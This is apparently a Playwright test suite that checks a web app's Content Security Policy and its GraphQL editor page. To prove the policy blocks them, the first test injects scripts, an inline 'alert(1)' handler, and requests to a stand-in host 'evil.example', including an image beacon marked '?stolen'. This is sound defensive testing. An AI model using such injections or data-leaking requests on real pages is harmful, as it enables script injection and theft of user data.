import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { newUser, openBrowser, pageErrors, policyViolations } from '../../support/browser.ts'
import { consoleShoal } from '../../support/console-shoal.ts'
import { waitForText } from '../../support/page.ts'
import { signInAs } from '../../support/people.ts'
import { deploySimulated } from '../../support/simulated-squid.ts'

const shoal = consoleShoal()
let browser: Browser
let page: Page

beforeAll(async () => {
  browser = await openBrowser()
  const context = await newUser(browser, shoal)
  page = await context.newPage()
  await page.goto('/')
  await page.getByLabel('Work email').waitFor()
})

afterAll(async () => {
  await browser?.close()
})

/** Runs the code in the page, and returns the directives of the policy that it violates. */
async function violationsOf(code: string): Promise<string[]> {
  await page.evaluate(code)
  await expect.poll(() => policyViolations.length).toBeGreaterThan(0)
  return policyViolations.splice(0).map((violation) => violation.replace(/^\S+ (\S+) .*/s, '$1'))
}

test('the page blocks injected styles, scripts, images and connections', async () => {
  const append = (name: string, properties: string) =>
    `void document.head.append(Object.assign(document.createElement('${name}'), ${properties}))`
  expect(await violationsOf(append('style', "{ textContent: 'body { display: none }' }"))).toEqual(['style-src-elem'])
  await expect.poll(() => page.locator('body').isVisible()).toBe(true)
  expect(await violationsOf(append('style', "{ nonce: 'guess', textContent: '' }"))).toEqual(['style-src-elem'])
  expect(await violationsOf(append('link', "{ rel: 'stylesheet', href: 'https://evil.example/a.css' }"))).toEqual([
    'style-src-elem',
  ])
  expect(await violationsOf(append('script', "{ textContent: 'document.title = 1' }"))).toEqual(['script-src-elem'])
  expect(await violationsOf("document.body.setAttribute('onclick', 'alert(1)')")).toEqual(['script-src-attr'])
  expect(await violationsOf("new Image().src = 'https://evil.example/?stolen'")).toEqual(['img-src'])
  expect(await violationsOf("void fetch('https://evil.example').catch(() => null)")).toEqual(['connect-src'])
  expect(await violationsOf(append('base', "{ href: 'https://evil.example/' }"))).toEqual(['base-uri'])
  pageErrors.length = 0
})

test('style sheets cannot read the nonce, which differs for each page', async () => {
  const readNonce = () =>
    page.evaluate<string[]>(
      "[document.querySelector('meta[property=csp-nonce]').nonce, document.querySelector('meta[property=csp-nonce]').getAttribute('nonce')]",
    )
  const [first, attribute] = await readNonce()
  expect(first).toMatch(/^[\w+/=]{22,}$/)
  expect(attribute).toBe('')
  await page.reload()
  expect((await readNonce())[0]).not.toBe(first)
})

test('the GraphQL editor has its styles, menus and completion without violations', async () => {
  const org = 'policies'
  const email = 'ada@policies.dev'
  const { page, token, api } = await signInAs(browser, shoal, email)
  await api.orgs.create({ body: { code: org, name: 'Policies', email } })
  await shoal.cli('org', 'set-status', '--code', org, '--status', 'ACTIVE')
  await deploySimulated({ shoal, org, token, api }, { name: 'safe', slot: 'v1' })
  await page.goto(`/squids/safe/v1/playground?organization=${org}`)
  const editor = page.locator('.monaco-editor').first()
  await editor.waitFor()
  // The editor inserts a style element with the colours of tokens.
  await editor.locator('textarea, .native-edit-context').first().focus()
  await page.keyboard.type('query Q { __typename }')
  await expect
    .poll(() =>
      page.evaluate<number>(
        "new Set([...document.querySelectorAll('.view-line span span')].map((e) => getComputedStyle(e).color)).size",
      ),
    )
    .toBeGreaterThan(1)
  await page.keyboard.press('F1')
  await page.locator('.quick-input-widget').waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: /^Execute query/ }).click()
  await page.locator('.result-window').getByText('"__typename"').waitFor()
  await waitForText(page, 'Docs')
})
